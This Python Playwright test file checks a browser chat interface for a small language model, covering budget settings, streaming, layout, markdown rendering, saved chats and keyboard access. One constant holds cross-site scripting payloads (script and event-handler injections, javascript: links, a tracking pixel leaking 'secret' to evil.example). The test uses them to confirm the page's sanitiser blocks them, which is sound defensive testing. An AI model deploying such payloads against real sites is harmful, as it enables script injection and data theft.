"""The page, in a real browser, against a real server: the dial, replies, chats, hostile text, by keyboard alone."""

import re

import pytest

from helpers.browser import CHROMIUM, MISSING, answers_with, chromium, finished, opened, say
from helpers.serving import running, slow_steps, tiny_service, until

sync_api = pytest.importorskip("playwright.sync_api")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason=MISSING)
MARKDOWN = """# Foxes
They *jump* for **three** reasons, see `pounce()` and some_snake_case:

1. mice
   - field mice
   - ~~cats~~
2. [fun](https://example.org/fun)

```python
def pounce():
    return "<b>"
```

> quoted

| a | b |
| - | - |
| 1 | \\*2\\* |

Bare: https://example.org/x.
"""
HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1"><svg onload=window.hacked=1>
[a](javascript:window.hacked=1) [b](  JaVaScRiPt:window.hacked=1) [c](data:text/html,<script>window.hacked=1</script>)
![pixel](https://evil.example/track.png?x=secret) <iframe src="https://evil.example"></iframe>
[d](vbscript:x) [e](//evil.example) [f](https://ok.example/" onmouseover="window.hacked=1)
<a href="javascript:window.hacked=1">g</a> <style>body{display:none}</style> &lt;script&gt;
```html
</code></pre><script>window.hacked = 1</script>
```
| <img src=x onerror=window.hacked=1> | b |
| --- | --- |
**<form action=https://evil.example><button>x</button></form>**
"""
TAGS = ["P", "UL", "OL", "LI", "BLOCKQUOTE", "PRE", "CODE", "DIV", "H3", "H4", "H5", "H6", "HR", "BR", "TABLE", "TR",
        "TD", "TH", "A", "EM", "STRONG", "S", "SPAN", "BUTTON"]  # fmt: skip


@pytest.fixture(scope="module")
def browser():
    with chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def service(byte_tokenizer):
    """Without a token that ends replies: sampled ones are as long as asked, and never done before a test looks."""
    service = tiny_service(byte_tokenizer)
    service.lm.model.generation_config.eos_token_id = None
    return service


@pytest.fixture
def page(browser, address, request):
    with opened(browser, address, **getattr(request, "param", {})) as page:
        yield page


def test_send_stream_and_compare(page):
    page.locator("#bytes").fill("0.8")
    page.check("#compare")
    page.fill("#longest", "60")
    page.fill("#prompt", "What is a page of the KV cache, and who reads it when? " * 2)
    page.keyboard.press("Enter")
    page.wait_for_selector(".answer .said span", state="attached")
    finished(page)
    titles = page.locator(".answer h2").all_inner_texts()
    assert titles == ["policy, budget 0.80", "dense"]
    budgeted, dense = page.locator(".answer").all()
    assert "bytes" not in dense.locator(".facts").first.inner_text()
    assert dense.locator(".bars > div").count() == 0
    shown = budgeted.locator(".facts").first.inner_text()
    steps = []
    for answer in (budgeted, dense):
        told = answer.locator(".facts").first.inner_text()
        assert "tokens/s" in told
        steps.append(float(re.search(r"([\d.]+) ms per token", told)[1]))
        factor = float(re.search(r"([\d.]+)× dense speed", told)[1])
    assert factor == 1  # of the dense answer itself
    factor = float(re.search(r"([\d.]+)× dense speed", shown)[1])
    assert factor == pytest.approx(steps[1] / steps[0], rel=0.1, abs=0.02)
    spent_bytes, of = map(float, re.search(r"bytes ([\d.]+) of ([\d.]+) asked", shown).groups())
    assert of == 0.8
    assert spent_bytes < 0.85
    colours = {span.evaluate("e => e.style.backgroundColor") for span in budgeted.locator(".said span").all()}
    assert len(colours) > 2
    assert budgeted.locator(".bars > div").count() == 3
    budgeted.locator(".said span").evaluate_all("all => all.find((one) => one.offsetWidth > 4).click()")
    assert budgeted.locator(".picked").inner_text().rpartition("”: ")[2].startswith("k")


def test_a_reply_is_stopped_while_it_streams(page, service, monkeypatch):
    slow_steps(monkeypatch, 0.05)
    page.fill("#longest", "400")
    page.fill("#prompt", "go on")
    page.keyboard.press("Enter")
    page.wait_for_selector(".answer .said span", state="attached")
    assert page.locator("#talk").get_attribute("aria-busy") == "true"
    page.click("#stop")
    finished(page)
    until(lambda: service.scheduler.busy == 0)
    assert "stopped" in page.locator(".facts").inner_text()
    assert page.locator(".answer .said span").count() < 400
    page.fill("#longest", "3")
    page.fill("#prompt", "again")
    page.keyboard.press("Enter")
    finished(page)
    assert page.locator(".turn.assistant").count() == 2


PHONE = {"viewport": {"width": 390, "height": 844}, "color_scheme": "dark", "has_touch": True}


@pytest.mark.parametrize("page", [PHONE], indirect=True)
def test_it_fits_a_phone_in_the_dark(page):
    page.check("#compare")
    page.fill("#longest", "80")
    page.fill("#prompt", "What is a page of the KV cache, and who reads it when? ")
    page.locator("#send").tap()
    finished(page)
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert not page.locator("#bytes").is_visible()
    page.locator("#dial > summary").tap()
    page.wait_for_selector("#bytes:visible")
    boxes = [answer.bounding_box() for answer in page.locator(".answer").all()]
    assert all(box["x"] >= 0 and box["x"] + box["width"] <= 390 for box in boxes)
    assert boxes[1]["y"] > boxes[0]["y"] + boxes[0]["height"]
    back, text = page.evaluate(
        "[getComputedStyle(document.body).backgroundColor, getComputedStyle(document.body).color]"
    )
    brightness = [sum(int(part) for part in colour[4:-1].split(",")) for colour in (back, text)]
    assert abs(brightness[0] - brightness[1]) > 450
    assert brightness[0] < brightness[1]


def test_a_refusal_is_shown(page):
    page.fill("#prompt", "x" * 600)
    page.keyboard.press("Enter")
    finished(page)
    assert "context" in page.locator(".facts.failed").inner_text()


def test_markdown_is_laid_out_and_coloured_token_by_token(page):
    answers_with(page, MARKDOWN)
    say(page, "go on")
    said = page.locator(".answer .said")
    assert said.locator("h3").inner_text() == "Foxes"
    assert [said.locator(tag).all_inner_texts() for tag in ("em", "strong", "s")] == [["jump"], ["three"], ["cats"]]
    assert said.locator("ol > li").count() == 2
    assert said.locator("ol ul > li").count() == 2
    assert said.locator("pre").inner_text() == 'def pounce():\n    return "<b>"'
    assert said.locator("blockquote").inner_text() == "quoted"
    assert said.locator("td").all_inner_texts() == ["1", "*2*"]
    assert "some_snake_case" in said.inner_text()
    links = said.locator("a").evaluate_all("all => all.map((one) => [one.href, one.rel, one.target])")
    assert links == [[f"https://example.org/{end}", "noopener noreferrer nofollow", "_blank"] for end in ("fun", "x")]
    tokens = said.locator("[data-token]").evaluate_all("all => all.map((one) => Number(one.dataset.token))")
    assert tokens == sorted(tokens)
    assert len(set(tokens)) > 40
    titles = said.locator("[data-token]").evaluate_all(
        "all => all.map((one) => [one.title, one.style.backgroundColor])"
    )
    assert {title.endswith(", guessed by draft") for title, _ in titles} == {True, False}
    assert len({colour for _, colour in titles}) == 2
    page.uncheck("#markdown")
    assert said.text_content() == MARKDOWN
    page.uncheck("#colours")
    assert {span.evaluate("e => e.style.backgroundColor") for span in said.locator("span").all()} == {""}


def test_nothing_in_a_reply_is_carried_out_or_fetched(page):
    fetched = []
    page.on("request", lambda request: fetched.append(request.url))
    answers_with(page, HOSTILE, piece=7)
    for setting in ("check", "uncheck"):
        getattr(page, setting)("#markdown")
        say(page, "go on")
    page.reload()
    page.wait_for_selector(".answer")
    assert page.evaluate("window.hacked") is None
    assert not [url for url in fetched if not url.startswith(page.url)]
    said = page.locator(".said").first.locator("xpath=ancestor::section").locator(".said")
    assert said.evaluate_all("all => all.flatMap((one) => [...one.querySelectorAll('*')].map((e) => e.tagName))")
    tags = set(said.evaluate_all("all => all.flatMap((one) => [...one.querySelectorAll('*')].map((e) => e.tagName))"))
    assert tags <= set(TAGS)
    schemes = page.locator(".said a").evaluate_all("all => all.map((one) => one.protocol)")
    assert set(schemes) <= {"https:"}
    attributes = said.evaluate_all(
        "all => all.flatMap((one) => [...one.querySelectorAll('*')].flatMap((e) => e.getAttributeNames()))"
    )
    assert not {name for name in attributes if name.startswith("on") or name in ("src", "srcdoc", "action")}
    assert "<script>window.hacked = 1</script>" in said.nth(1).inner_text()


def test_chats_are_kept_opened_and_deleted(page):
    page.fill("#longest", "5")
    say(page, "first question")
    page.click("#clear")
    say(page, "second question")
    say(page, "and more")
    page.click("#saved")
    openers = page.locator("#chat-list .open")
    assert [text.splitlines()[0] for text in openers.all_inner_texts()] == ["second question", "first question"]
    assert openers.first.get_attribute("aria-current") == "true"
    openers.nth(1).click()
    assert page.locator(".user").all_inner_texts() == ["first question"]
    sent = []
    page.on("request", lambda request: sent.append(request.post_data_json) if "chat" in request.url else None)
    say(page, "go on")
    assert [one["content"] for one in sent[0]["messages"]][::2] == ["first question", "go on"]
    page.click("#saved")
    page.locator("#chat-list .delete").first.click()  # the one on the page: used last
    assert page.locator(".turn").count() == 0
    assert page.evaluate("document.activeElement.className") == "delete"
    page.locator("#chat-list .delete").click()
    assert page.evaluate("document.activeElement.className") == "close"
    assert page.locator("#chat-list").inner_text() == "No chats yet."
    page.keyboard.press("Escape")
    assert page.evaluate("Object.keys(localStorage).filter((key) => key.startsWith('solm-chat-'))") == []


def test_the_card_tells_what_budgets_take_and_lose(browser, byte_tokenizer):
    service = tiny_service(byte_tokenizer, curve=True)
    with running(service) as address, opened(browser, address) as page:
        text = "a message that is long enough to save something after it " * 4
        page.fill("#prompt", text)
        sync_api.expect(page.locator("#least")).to_contain_text("After these")  # which tells what can be saved
        page.click("#about")
        card = page.locator("#card")
        assert "tiny" in card.inner_text()
        assert f"{service.lm.shapes.layers} layers" in card.inner_text()
        cells = card.locator("tbody td").all_inner_texts()
        assert cells[1:6] == ["500", "0.70", "1.43×", "+10.5 %", "0.100 [0.090, 0.110]"]
        card.locator(".use").click()
        assert not card.is_visible()
        assert page.locator("#bytes-value").inner_text() == "0.70"
        assert "share of time" in page.locator("label[for=bytes]").inner_text()
        page.fill("#longest", "8")
        say(page, text)
        assert re.search(r"time 0\.\d\d of 0\.70 asked", page.locator(".facts").inner_text())


def test_two_budgets_side_by_side(page):
    sent = []
    page.on("request", lambda request: sent.append(request.post_data_json) if "/chat/" in request.url else None)
    page.fill("#longest", "12")
    page.check("#compare")
    page.select_option("#other", "budget")
    page.locator("#bytes").fill("0.9")
    page.locator("#other-bytes").fill("0.75")
    page.locator("#together").set_checked(False)
    say(page, "what is said twice is said by two budgets, and both of them are told here " * 2)
    assert page.locator(".answer h2").all_inner_texts() == ["policy, budget 0.90", "policy, budget 0.75"]
    assert [one["efficiency"]["budget"] for one in sent] == [0.9, 0.75]
    assert sent[0]["messages"] == sent[1]["messages"]
    for answer, budget in zip(page.locator(".answer").all(), ("0.90", "0.75"), strict=True):
        told = answer.locator(".facts").inner_text()
        assert "tokens/s" in told
        assert f"of {budget} asked" in told
        assert "× the second's speed" in told


def test_all_of_it_by_keyboard_alone(page):
    answers_with(page, MARKDOWN)
    say(page, "hello")
    order = []
    for _ in range(40):
        page.keyboard.press("Tab")
        found = page.evaluate(
            "(() => { const e = document.activeElement, s = getComputedStyle(e);"
            " return [e.id || e.className || e.tagName, s.outlineStyle !== 'none' || e.tagName === 'BODY'] })()"
        )
        assert found[1], f"no visible focus on {found[0]}"
        order.append(found[0])
    wanted = ["about", "saved", "clear", "talk", "copy", "said", "policy", "bytes", "axes", "compare", "prompt"]
    start = order.index("about")
    places = [order.index(name, start) for name in wanted]
    assert places == sorted(places), order
    for opener, dialog in (("about", "card"), ("saved", "chats")):
        page.focus(f"#{opener}")
        page.keyboard.press("Enter")
        assert page.locator(f"#{dialog}").is_visible()
        assert page.evaluate("document.activeElement.closest('dialog') !== null")
        page.keyboard.press("Escape")
        assert page.evaluate("document.activeElement.id") == opener
    page.locator(".answer .said").focus()
    chosen = []
    for key in ("ArrowRight", "ArrowRight", "ArrowLeft"):
        page.keyboard.press(key)
        chosen.append(page.locator(".chosen").first.get_attribute("data-token"))
        assert "reads" in page.locator(".picked").inner_text()
    assert chosen[0] == chosen[2] != chosen[1]
    assert page.locator("#talk").get_attribute("aria-live") == "polite"
    assert page.locator("#talk").get_attribute("aria-busy") == "false"
